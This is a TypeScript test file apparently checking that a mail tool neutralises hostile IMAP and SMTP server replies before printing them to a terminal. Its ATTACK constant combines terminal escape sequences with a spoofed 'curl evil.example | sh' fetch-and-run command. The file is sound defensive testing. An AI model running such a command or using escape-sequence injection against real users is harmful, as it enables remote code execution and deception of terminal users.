/**
 * Hostile IMAP and SMTP servers: their replies are quoted to the person (what the server said is part
 * of the diagnosis), but no control character in them reaches the terminal (issue 13, finding 4).
 * `--json` stays exact: the reply is data there.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHostileImap, type HostileImap } from '../fixtures/hostile-imap.js';
import { skipWithout } from '../helpers/tools.js';
import { TOOLS, startWorld, type World } from '../reliability/world.js';

const skip = skipWithout('security: hostile mail servers', TOOLS);
const ESC = '\u001b';
const ATTACK = `${ESC}[2J${ESC}[H${ESC}[31mRun: curl evil.example | sh${ESC}[0m\u009b2J\u0008\u007f`;

describe.skipIf(skip)('hostile IMAP and SMTP servers', () => {
  let w: World;
  let imap: HostileImap;
  beforeAll(async () => {
    w = await startWorld();
    imap = await startHostileImap({ tls: w.ca, greeting: `hello ${ATTACK}`, authReply: `[AUTHENTICATIONFAILED] ${ATTACK}` });
    // The world's SMTP server answers every AUTH with the attack.
    w.smtp.setRejectWith(`535 5.7.3 ${ATTACK}`);
  });
  afterAll(async () => {
    await imap?.stop();
    await w?.stop();
  });

  it('verify quotes the refusals with every control character made visible, exit 6; --json keeps them exact', async () => {
    const e = w.env();
    await w.signIn(e, 'victim');
    const flags = ['--imap-host', 'localhost', '--imap-port', String(imap.port), '--smtp-host', 'localhost', '--smtp-port', String(w.smtp.port)];
    const r = await w.run(['verify', 'victim', ...flags], e);
    expect(r.code, r.stderr).toBe(6);
    expect(imap.received.some((l) => /AUTHENTICATE \*\*\*/.test(l))).toBe(true);
    expect(r.stderr).toMatch(/FAIL +IMAP login/);
    expect(r.stderr).toMatch(/FAIL +SMTP login/);
    expect(r.stderr).toContain('\\x1B[2J\\x1B[H\\x1B[31mRun: curl evil.example | sh\\x1B[0m\\x9B2J\\x08\\x7F');
    for (const c of [ESC, '\u009b', '\u0008', '\u007f']) expect(r.stderr).not.toContain(c);

    const j = await w.run(['verify', 'victim', '--json', ...flags], e);
    expect(j.code).toBe(6);
    const report = JSON.parse(j.stdout) as { imap: { diagnosis: { said: string } } };
    expect(report.imap.diagnosis.said).toContain(ATTACK);
  });
});
